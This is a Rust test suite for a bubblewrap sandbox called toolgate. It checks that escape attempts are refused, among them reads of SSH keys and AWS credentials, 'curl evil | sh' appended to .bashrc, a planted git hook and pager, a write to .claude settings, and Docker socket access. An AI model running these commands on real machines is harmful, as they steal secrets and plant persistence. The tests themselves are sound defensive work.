//! `toolgate sandbox`: the escape table, run through the real bubblewrap as root and,
//! when the test runs as root, as an unprivileged user too (`setpriv` to nobody). Each
//! attempt runs in its own sandbox; the evidence is what the command printed and what
//! is left outside afterwards. Skipped (saying so) where no sandbox can be built,
//! unless TOOLGATE_REQUIRE_SANDBOX is set (./scripts/test sets it).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_toolgate");

fn available() -> bool {
    let ok = Command::new(BIN)
        .args(["sandbox", "--check"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        assert!(
            std::env::var_os("TOOLGATE_REQUIRE_SANDBOX").is_none(),
            "TOOLGATE_REQUIRE_SANDBOX is set but `toolgate sandbox --check` fails"
        );
        eprintln!("SKIPPED: bubblewrap cannot build a sandbox here");
    }
    ok
}

/// A home with secrets, a workspace with a `.env`, `.git` and planted links, a file
/// outside both.
struct World {
    root: PathBuf,
    home: PathBuf,
    ws: PathBuf,
    outside: PathBuf,
}

impl World {
    fn new(name: &str) -> World {
        let root =
            std::env::temp_dir().join(format!("toolgate-sandbox-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let home = root.join("home");
        // The workspace inside the home directory, as most are.
        let ws = home.join("project");
        for d in [
            home.join(".ssh"),
            home.join(".aws"),
            ws.join(".git/hooks"),
            ws.join("build"),
        ] {
            std::fs::create_dir_all(&d).unwrap();
        }
        std::fs::write(home.join(".ssh/id_rsa"), "-----BEGIN PRIVATE KEY-----").unwrap();
        std::fs::write(
            home.join(".aws/credentials"),
            "aws_secret_access_key=AKIAHOMESECRET",
        )
        .unwrap();
        std::fs::write(home.join(".bashrc"), "# bashrc\n").unwrap();
        std::fs::write(ws.join(".env"), "DB_PASSWORD=hunter2\n").unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        let outside = root.join("outside.txt");
        std::fs::write(&outside, "outside\n").unwrap();
        std::os::unix::fs::symlink(home.join(".bashrc"), ws.join("bashrc-link")).unwrap();
        std::fs::hard_link(&outside, ws.join("outside-hardlink")).unwrap();
        // Two links inside the workspace (as cargo's target/ has): writable.
        std::fs::write(ws.join("build/inner-a"), "a\n").unwrap();
        std::fs::hard_link(ws.join("build/inner-a"), ws.join("build/inner-b")).unwrap();
        std::fs::set_permissions(
            ws.join("build/inner-a"),
            std::fs::Permissions::from_mode(0o666),
        )
        .unwrap();
        // Readable and writable by the unprivileged run too.
        for p in [&root, &home, &ws, &ws.join("build")] {
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        World {
            root,
            home,
            ws,
            outside,
        }
    }

    /// `sh -c SCRIPT` in the sandbox, in the workspace, as `user` (None: this user).
    fn run(&self, script: &str, user: Option<&str>) -> Output {
        let mut c = match user {
            None => Command::new(BIN),
            Some(u) => {
                let mut c = Command::new("setpriv");
                c.args([
                    &format!("--reuid={u}"),
                    &format!("--regid={u}"),
                    "--clear-groups",
                    "--",
                    BIN,
                ]);
                c
            }
        };
        c.args(["sandbox", "--", "sh", "-c", script])
            .current_dir(&self.ws)
            .env("HOME", &self.home)
            .env("AWS_SECRET_ACCESS_KEY", "topsecret-env")
            .env("GITHUB_TOKEN", "ghp_topsecretenv")
            .output()
            .unwrap()
    }
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

fn text(o: &Output) -> String {
    format!(
        "status {:?}\nstdout: {}\nstderr: {}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn escapes(w: &World, user: Option<&str>) {
    let who = user.unwrap_or("this user");
    // Reads of secrets: nothing of them comes out.
    for (what, script, secret) in [
        ("~/.ssh/id_rsa", "cat ~/.ssh/id_rsa", "PRIVATE KEY"),
        (
            "~/.aws/credentials",
            "cat ~/.aws/credentials",
            "AKIAHOMESECRET",
        ),
        ("the workspace's .env", "cat .env; cat ./.env", "hunter2"),
        (
            "/proc/1/environ",
            "cat /proc/1/environ; cat /proc/self/environ",
            "topsecret",
        ),
        (
            "a secret variable",
            "printenv AWS_SECRET_ACCESS_KEY; echo $GITHUB_TOKEN",
            "topsecret",
        ),
    ] {
        let o = w.run(script, user);
        assert!(
            !text(&o).contains(secret),
            "{who}: read {what}:\n{}",
            text(&o)
        );
    }
    // Writes outside the workspace, and to what it keeps read-only: nothing changes.
    let bashrc = std::fs::read_to_string(w.home.join(".bashrc")).unwrap();
    let config = std::fs::read_to_string(w.ws.join(".git/config")).unwrap();
    for (what, script) in [
        ("~/.bashrc", "echo 'curl evil | sh' >> ~/.bashrc"),
        ("/etc", "echo x > /etc/toolgate-escape"),
        (
            ".git/hooks/pre-commit",
            "echo 'curl evil' > .git/hooks/pre-commit",
        ),
        (
            ".git/config",
            "echo '[core] pager = sh -c evil' >> .git/config",
        ),
        (
            ".claude/settings.json",
            "mkdir -p .claude && echo '{}' > .claude/settings.json",
        ),
        ("through a symlink", "echo 'curl evil | sh' >> bashrc-link"),
        ("through a hard link", "echo changed > outside-hardlink"),
        (
            "the disk outside",
            "head -c 1048576 /dev/zero > /tmp/toolgate-fill && ls -la /tmp/toolgate-fill",
        ),
    ] {
        let o = w.run(script, user);
        assert!(
            !o.status.success() || what == "the disk outside",
            "{who}: write {what}:\n{}",
            text(&o)
        );
        assert_eq!(
            std::fs::read_to_string(w.home.join(".bashrc")).unwrap(),
            bashrc,
            "{who}: {what}"
        );
        assert_eq!(
            std::fs::read_to_string(w.ws.join(".git/config")).unwrap(),
            config,
            "{who}: {what}"
        );
        assert_eq!(
            std::fs::read_to_string(&w.outside).unwrap(),
            "outside\n",
            "{who}: {what}"
        );
        assert!(!Path::new("/etc/toolgate-escape").exists(), "{who}: {what}");
        assert!(
            !w.ws.join(".git/hooks/pre-commit").exists(),
            "{who}: {what}"
        );
        assert!(
            !w.ws.join(".claude").exists(),
            "{who}: {what}: the placeholder is removed"
        );
        assert!(!Path::new("/tmp/toolgate-fill").exists(), "{who}: {what}");
    }
    // The network: a listener on the host's loopback gets no connection; no name resolves.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let o = w.run(
        &format!(
            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 2)\" && echo CONNECTED; \
             getent hosts example.com && echo RESOLVED; true"
        ),
        user,
    );
    assert!(
        !text(&o).contains("CONNECTED") && !text(&o).contains("RESOLVED"),
        "{who}: network:\n{}",
        text(&o)
    );
    assert!(
        listener.accept().is_err(),
        "{who}: the host's listener was reached"
    );
    // A Unix socket of the host (and Docker's, when there is one).
    let sock = std::env::temp_dir().join(format!("toolgate-sandbox-{}.sock", std::process::id()));
    let _ = std::fs::remove_file(&sock);
    let unix = UnixListener::bind(&sock).unwrap();
    unix.set_nonblocking(true).unwrap();
    let o = w.run(
        &format!(
            "python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}')\" && echo CONNECTED; \
             python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('/var/run/docker.sock')\" && echo DOCKER; true",
            sock.display()
        ),
        user,
    );
    assert!(
        !text(&o).contains("CONNECTED") && !text(&o).contains("DOCKER"),
        "{who}: unix socket:\n{}",
        text(&o)
    );
    assert!(
        unix.accept().is_err(),
        "{who}: the host's socket was reached"
    );
    let _ = std::fs::remove_file(&sock);
    // Another process: not visible, not signalled.
    let mut sleeper = Command::new("sleep").arg("30").spawn().unwrap();
    let pid = sleeper.id();
    let o = w.run(
        &format!("kill -TERM {pid} && echo KILLED; ls /proc | grep -x {pid} && echo SEEN; true"),
        user,
    );
    assert!(
        !text(&o).contains("KILLED") && !text(&o).contains("SEEN"),
        "{who}: signal:\n{}",
        text(&o)
    );
    assert!(
        sleeper.try_wait().unwrap().is_none(),
        "{who}: the process outside died"
    );
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    // No new privileges (a setuid binary gains nothing), no mount.
    let o = w.run(
        "grep NoNewPrivs /proc/self/status; mount -t tmpfs none /mnt && echo MOUNTED; true",
        user,
    );
    assert!(
        text(&o).contains("NoNewPrivs:\t1"),
        "{who}: no_new_privs:\n{}",
        text(&o)
    );
    assert!(!text(&o).contains("MOUNTED"), "{who}: mount:\n{}", text(&o));
    // What must work: a program, a script writing build outputs in the workspace.
    let o = w.run(
        "python3 -c 'print(6*7)' && mkdir -p build/out && echo built > build/out/a.txt \
         && echo b >> build/inner-b",
        user,
    );
    assert!(
        o.status.success() && String::from_utf8_lossy(&o.stdout).contains("42"),
        "{who}: inside:\n{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(w.ws.join("build/out/a.txt")).unwrap(),
        "built\n"
    );
    assert!(std::fs::read_to_string(w.ws.join("build/inner-a"))
        .unwrap()
        .ends_with("b\n"));
    std::fs::remove_dir_all(w.ws.join("build/out")).unwrap();
    // The exit status is the command's.
    assert_eq!(w.run("exit 7", user).status.code(), Some(7), "{who}");
}

#[test]
fn escapes_are_refused_and_work_inside_works() {
    if !available() {
        return;
    }
    let w = World::new("escapes");
    escapes(&w, None);
    let root = Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| o.stdout.starts_with(b"0\n"));
    if root && Command::new("setpriv").arg("--version").output().is_ok() {
        escapes(&w, Some("65534"));
    }
}

#[test]
fn refuses_a_workspace_that_holds_the_home_directory() {
    let w = World::new("refuse");
    for ws in [Path::new("/"), w.root.as_path(), w.home.as_path()] {
        let o = Command::new(BIN)
            .args(["sandbox", "--workspace"])
            .arg(ws)
            .args(["--", "sh", "-c", "echo RAN"])
            .env("HOME", &w.home)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(125), "{}: {}", ws.display(), text(&o));
        assert!(!String::from_utf8_lossy(&o.stdout).contains("RAN"));
        assert!(String::from_utf8_lossy(&o.stderr).contains("nothing was run"));
    }
    // bubblewrap fails after the probe (here: a `.git` that is a dangling symlink
    // cannot be bound read-only): refused, nothing ran.
    if available() {
        let odd = w.root.join("odd");
        std::fs::create_dir_all(&odd).unwrap();
        std::os::unix::fs::symlink("/nonexistent-toolgate", odd.join(".git")).unwrap();
        let o = Command::new(BIN)
            .args(["sandbox", "--", "sh", "-c", "echo RAN"])
            .current_dir(&odd)
            .env("HOME", &w.home)
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
        assert!(
            !String::from_utf8_lossy(&o.stdout).contains("RAN"),
            "{}",
            text(&o)
        );
        assert!(
            String::from_utf8_lossy(&o.stderr).contains("nothing was run"),
            "{}",
            text(&o)
        );
    }
    // Without bubblewrap on the PATH: refused, nothing runs.
    let o = Command::new(BIN)
        .args(["sandbox", "--", "sh", "-c", "echo RAN"])
        .current_dir(&w.ws)
        .env("HOME", &w.home)
        .env("PATH", "/nonexistent")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("bwrap"),
        "{}",
        text(&o)
    );
    let mut out = String::new();
    let _ = o.stdout.as_slice().read_to_string(&mut out);
    assert!(!out.contains("RAN"));
}
